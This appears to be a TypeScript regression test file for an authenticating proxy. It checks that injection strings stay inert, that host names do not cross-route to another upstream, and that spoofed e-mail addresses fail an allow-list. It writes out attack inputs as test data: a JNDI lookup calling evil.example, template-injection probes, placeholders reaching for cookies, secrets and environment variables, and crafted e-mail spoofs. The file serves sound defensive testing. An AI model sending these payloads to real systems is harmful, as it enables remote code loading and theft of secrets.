import { readFileSync } from 'node:fs'
import { expect, test } from 'vitest'
import { checkThreatModel } from '../../scripts/check-threat-model.ts'
import { judge } from '../../src/sessions/allow.ts'
import { sendRaw } from '../support/raw.ts'
import { startRecorder } from '../support/recorder.ts'
import { sampleSession } from '../support/sample-session.ts'
import { seeded } from '../support/seeded.ts'
import { startTraffic } from '../support/traffic-harness.ts'

/** Classes of published vulnerabilities that no other file sends; docs/threat-model.md has the table of all. */
test('a placeholder in a request stays text, for the app, on our pages and in links', async () => {
  const gate = await startTraffic()
  for (const text of [
    '{http.request.header.Cookie}',
    '{http.request.header.{http.request.header.X}}',
    '\u0024{CLIENT_SECRET}',
    '\u0024{jndi:ldap://evil.example/a}',
    '{{7777*7777}}',
    '{env.HOME}',
    '$1$&$`',
    '%{HTTP_COOKIE}',
    '#{7777*7777}',
  ]) {
    const target = `/film?name=${text.replaceAll(/[#%`]/g, encodeURIComponent)}`
    gate.recorder.clear()
    expect((await sendRaw(gate.port, gate.signedIn(`GET ${target}`, `User-Agent: ${text}`))).status).toBe(200)
    expect(gate.recorder.requests).toMatchObject([{ target }])
    expect(gate.recorder.requests[0]?.all('user-agent')).toEqual([text])
    const page = await sendRaw(gate.port, gate.anonymous(`GET ${target}`, `User-Agent: ${text}`, 'Accept: text/html'))
    expect([page.status, gate.links.at(-1)]).toEqual([401, target])
    expect(page.bytes).not.toMatch(/60481729|movies-session|\/root|\/home\//)
  }
  await gate.close()
})

test('two apps whose names run into each other keep their own upstream', async () => {
  const upstreams = await Promise.all([startRecorder(), startRecorder(), startRecorder()])
  const template = await startTraffic()
  const names = ['a', 'a.b', 'ab']
  const apps = upstreams.map(({ url }, index) => {
    const authority = ['a.home.example', 'a.home.example:8443', 'a.home.example:84'][index] as string
    const name = names[index] as string
    return {
      ...template.app,
      name,
      authority,
      origin: `https://${authority}`,
      upstream: url,
      cookies: { ...template.app.cookies, session: `s${index}` },
    }
  })
  const gate = await startTraffic({ parts: { apps } })
  for (const name of names) gate.sessions.set(name, { key: name, session: sampleSession(name) })
  const random = seeded(21)
  // biome-ignore format: pieces by the line
  const pieces = ['43', '3', ':', '/', 'a', '.b', 'a.home.example', 'http:', ...upstreams.map(({ url }) => url.host), '?u=', '@']
  for (let round = 0; round < 600; round++) {
    const index = Math.floor(random() * 3)
    const rest = Array.from({ length: 6 }, () => pieces[Math.floor(random() * pieces.length)]).join('')
    for (const upstream of upstreams) upstream.clear()
    const text = `GET /x${rest} HTTP/1.1\r\nHost: ${apps[index]?.authority}\r\nCookie: s${index}=${names[index]}\r\nConnection: close\r\n\r\n`
    expect((await sendRaw(gate.port, text)).status).toBe(200)
    const reached = upstreams.map(({ requests }) => requests.map(({ target }) => target))
    expect(reached).toEqual([0, 1, 2].map((other) => (other === index ? [`/x${rest}`] : [])))
  }
  await Promise.all([gate.close(), template.close(), ...upstreams.map((upstream) => upstream.close())])
})

test('an e-mail with two signs, with quotes or with another end is not the listed one', () => {
  const person = (email: string) => ({ issuer: 'https://id.home.example', sub: 's', name: 'Eve', email })
  for (const email of [
    'kim@evil@home.example',
    'kim@home.example@evil.example',
    'kim@home.example,eve@evil.example',
    'kim@home.example\n',
    ' kim@home.example',
    '"kim"@home.example',
    '"kim@home.example"@evil.example',
    'kim+eve@home.example',
    'kim@home.example.',
    'kim@home.example.evil.example',
    'kim@evilhome.example',
    'evil-kim@home.example',
    'kim@HOME.example\0.evil',
    '@home.example',
    '*',
  ]) {
    expect([email, judge({ emails: ['kim@home.example'] }, person(email)).allowed]).toEqual([email, false])
  }
})

test('promise 8: every public class of the peers has a named regression test', () => {
  const text = readFileSync(new URL('../../docs/threat-model.md', import.meta.url), 'utf8')
  const section = /\n## Public vulnerabilities, by class\n([\s\S]*?)\n## /.exec(text)?.[1] ?? ''
  const classes = [...section.matchAll(/^\| (?!class |-)(.+?) \| /gm)].map(([, name = '']) => name)
  expect(classes.length).toBeGreaterThan(50)
  const problems = checkThreatModel()
  expect(problems.filter((problem) => classes.some((name) => problem.includes(`: ${name}`)))).toEqual([])
})
